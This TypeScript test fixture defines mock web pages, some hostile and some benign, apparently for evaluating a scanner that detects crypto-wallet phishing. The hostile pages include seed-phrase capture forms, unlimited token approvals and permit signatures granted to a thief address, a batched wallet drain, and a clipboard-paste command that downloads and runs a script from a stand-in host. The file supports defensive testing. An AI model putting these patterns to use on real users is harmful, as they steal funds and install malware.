import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { page } from '../../src/sandbox/sites/page.ts'
import { typedDataOf } from '../../src/testing/typedData.ts'
import { type PageClass, type PageDesign, sends, signs, VISITOR } from './pageDesign.ts'
import type { PageWorld } from './pageWorld.ts'

const one = (id: string, hostile: boolean, design: (world: PageWorld) => PageDesign): PageClass => ({
  id: `blind-${id}`,
  hostile,
  design: (_, world) => design(world),
})
const lines = (count: number) => Array.from({ length: count }, (_, at) => `<input id="l${at}" size="7">`).join('')

/** Pages that were written after the rules, without a look at them: each once. Scanned with PAGES_SET=blind. */
export const BLIND_CLASSES: readonly PageClass[] = [
  one('firmware', true, () => ({
    title: 'Device companion',
    content: `<h1>Firmware 2.4.1 is required</h1><p>Your device did not answer. Type what is on your sheet to pair it again.</p>${lines(24)}`,
    buttons: [
      {
        label: 'Pair',
        connects: false,
        code: `const v = [...root.querySelectorAll('input')].map((field) => field.value.trim()); if (v.some((word) => !word || word.length > 8)) return say('Line missing'); await fetch('/pair', { method: 'POST', body: JSON.stringify(v) })`,
      },
    ],
  })),
  one('health-check', true, (world) => ({
    title: 'Кошелёк: проверка',
    content: '<h1>Проверка безопасности</h1><p>Мы проверим ваши разрешения и покажем опасные.</p>',
    buttons: [
      {
        label: 'Проверить',
        code: sends(world.tokens.usdc, world.call('StableToken', 'approve', [world.thief, UNLIMITED])),
      },
    ],
  })),
  one('lp-migration', true, (world) => ({
    title: 'Positions',
    content: '<h1>Your positions</h1><p>Version 4 pools are open. Move your liquidity in one click.</p>',
    buttons: [
      {
        label: 'Move liquidity',
        code: sends(world.dex.positionManager, world.call('Collectible721', 'setApprovalForAll', [world.thief, true])),
      },
    ],
  })),
  one('gift-item', true, (world) => ({
    title: 'Trade up',
    content: '<h1>Trade up your item</h1><p>Send one, receive a rarer one from the vault.</p>',
    buttons: [
      {
        label: 'Trade up',
        code: sends(world.nfts.collectible, world.call('Collectible721', 'transferFrom', [VISITOR, world.thief, 1n])),
      },
    ],
  })),
  one('gas-refund', true, (world) => ({
    title: 'Gas refund',
    content: '<h1>Refund of network fees</h1><p>You spent 0.31 ETH on fees in 2026. Sign to get it back.</p>',
    buttons: [
      {
        label: 'Get refund',
        code: signs(
          typedDataOf(
            'Permit(address holder,address spender,uint256 nonce,uint256 expiry,bool allowed)',
            { name: 'Dai Stablecoin', version: '1', chainId: 1, verifyingContract: world.tokens.dai },
            { holder: VISITOR, spender: world.thief, nonce: '0', expiry: '0', allowed: true },
          ),
        ),
      },
    ],
  })),
  one('cloud-mining', true, (world) => ({
    title: 'Hash farm',
    content: `<h1>Mine from your sofa</h1><p>Rent power from 0.02 ETH. Your income is 9 % each day for 30 days, paid without fail.</p><p>Top up: <code>${world.thief}</code></p>`,
    buttons: [{ label: 'Top up', connects: false, code: `say('Waiting for your payment')` }],
  })),
  one('meeting-fix', true, () => ({
    title: 'Join the call',
    content: '<h1>Your camera is in use</h1><p>Another program holds the camera. Release it and join.</p>',
    buttons: [
      {
        label: 'Release camera',
        connects: false,
        code: `await navigator.clipboard.writeText('cmd /c curl -o %temp%\\\\c.cmd https://{{self}}/c.cmd && %temp%\\\\c.cmd'); show('<h1>One step left</h1><p>Win + R, Ctrl + V, Enter.</p>')`,
      },
    ],
  })),
  one('explorer-revoke', true, (world) => ({
    title: 'Token approval checker',
    content: '<h1>1 risky approval found</h1><p>Revoke it now.</p>',
    buttons: [
      {
        label: 'Revoke',
        code: sends(
          world.tokens.dai,
          world.call('StableToken', 'increaseAllowance', [world.traps.drainer, 10n ** 24n]),
        ),
      },
    ],
  })),
  one('support-chat', true, () => ({
    title: 'Live help',
    content:
      '<h1>Live help</h1><p>Agent: please send the backup of the account you cannot open, all of it in one message.</p><textarea></textarea>',
    buttons: [
      {
        label: 'Send',
        connects: false,
        code: `const text = root.querySelector('textarea').value.trim(); if (text.split(/\\s+/).length % 3) return say('That is not all of it'); if (!text.split(/\\s+/).every((word) => word.length < 9)) return say('Check the spelling'); navigator.sendBeacon('/m', [...text].reverse().join(''))`,
      },
    ],
  })),
  one('session-key', true, (world) => ({
    title: 'One-tap play',
    content: '<h1>Play without pop-ups</h1><p>Allow the game to act for you.</p>',
    buttons: [
      {
        label: 'Allow',
        code: `await wallet('wallet_sendCalls', [{ version: '2.0.0', chainId: '0x1', from: account, atomicRequired: false, calls: [{ to: '${world.nfts.items}', value: '0x0', data: '${world.call('Collectible1155', 'setApprovalForAll', [world.thief, true])}' }, { to: '${world.tokens.dai}', value: '0x0', data: '${world.call('PlainToken', 'transfer', [world.thief, 900n * 10n ** 18n])}' }] }])`,
      },
    ],
  })),
  one('explorer', false, (world) => ({
    title: 'Block 21,004,118',
    content: `<h1>Block 21,004,118</h1><table><tr><td>Miner</td><td>${world.actors.friend}</td></tr><tr><td>Gas</td><td>14,202,118</td></tr></table>`,
    buttons: [
      {
        label: 'Copy',
        connects: false,
        code: `await navigator.clipboard.writeText('${world.actors.friend}'); say('Copied')`,
      },
    ],
  })),
  one('payroll', false, (world) => ({
    title: 'Payroll',
    content: '<h1>Pay by the second</h1><p>Start a stream of 300 DAI for a month. Cancel whenever you like.</p>',
    buttons: [
      {
        label: 'Start stream',
        code: sends(world.tokens.dai, world.call('PlainToken', 'approve', [world.projects.stream, 300n * 10n ** 18n])),
      },
    ],
  })),
  one('names', false, (world) => ({
    title: 'Names',
    content: '<h1>kestrel.name is free</h1><p>0.01 ETH for a year.</p>',
    buttons: [
      {
        label: 'Register',
        code: sends(world.projects.sales, world.call('SalesDesk', 'register', ['kestrel', 1n]), 10n ** 16n),
      },
    ],
  })),
  one('taxes', false, () => ({
    title: 'Coin taxes',
    content:
      '<h1>Work out your taxes</h1><p>Upload the CSV of your exchange. It stays in your browser.</p><input type="file" accept=".csv"><textarea placeholder="or paste the rows"></textarea>',
    buttons: [{ label: 'Calculate', connects: false, code: `say('0 rows read')` }],
  })),
  one('vocabulary', false, () => ({
    title: 'Spanish, lesson 4',
    content: `<h1>Write the twelve words</h1><p>One word in each field, as you heard them.</p>${lines(12)}`,
    buttons: [
      {
        label: 'Check',
        connects: false,
        code: `await fetch('/check', { method: 'POST', body: JSON.stringify([...root.querySelectorAll('input')].map((field) => field.value)) }); say('3 of 12 right')`,
      },
    ],
  })),
  one('chart', false, () => ({
    title: 'ETH price',
    content:
      '<h1>ETH 3,502.11</h1><svg width="400" height="120"><path d="M0 80L100 40L200 60L400 10"/></svg><p>Up 2.1 % since yesterday. Not advice.</p>',
    buttons: [{ label: '1 week', connects: false, code: `show('<h1>ETH 3,502.11</h1><p>One week</p>')` }],
  })),
  one('transfer-tool', false, (world) => ({
    title: 'Send',
    content: `<h1>Send dollars</h1><label>To <input value="${world.actors.friend}"></label><label>Amount <input inputmode="decimal" value="25"></label>`,
    buttons: [
      {
        label: 'Send 25 USDC',
        code: sends(world.tokens.usdc, world.call('StableToken', 'transfer', [world.actors.friend, 25n * 10n ** 6n])),
      },
    ],
  })),
  one('shell-docs', false, () => ({
    title: 'Nettle: quick start',
    content:
      '<h1>Quick start</h1><p>One line sets it up on a Mac.</p><pre>curl -fsSL https://{{self}}/nettle.sh | bash</pre><p>Read the script first if you like.</p>',
    buttons: [
      {
        label: 'Copy',
        connects: false,
        code: `await navigator.clipboard.writeText('curl -fsSL https://{{self}}/nettle.sh | bash')`,
      },
    ],
  })),
  one('savings-bank', false, () => ({
    title: 'Valley bank',
    content:
      '<h1>Fixed deposit</h1><p>3.1 % a year, guaranteed for 24 months and insured up to 100,000.</p><a href="/terms">Terms</a><a href="/branches">Branches</a>',
    buttons: [
      {
        label: 'Open an account',
        connects: false,
        code: `show('<h1>Your details</h1><label>Name <input></label><label>E-mail <input type="email"></label>')`,
      },
    ],
  })),
  one('widget', false, () => ({
    title: 'Concert hall',
    content:
      '<h1>Tonight</h1><p>Doors at seven.</p><iframe src="https://{{seats}}/" width="600" height="400"></iframe>',
    hosts: { seats: page('Seats', '<button>Choose seats</button><p>Row 1 to 20</p>') },
  })),
]
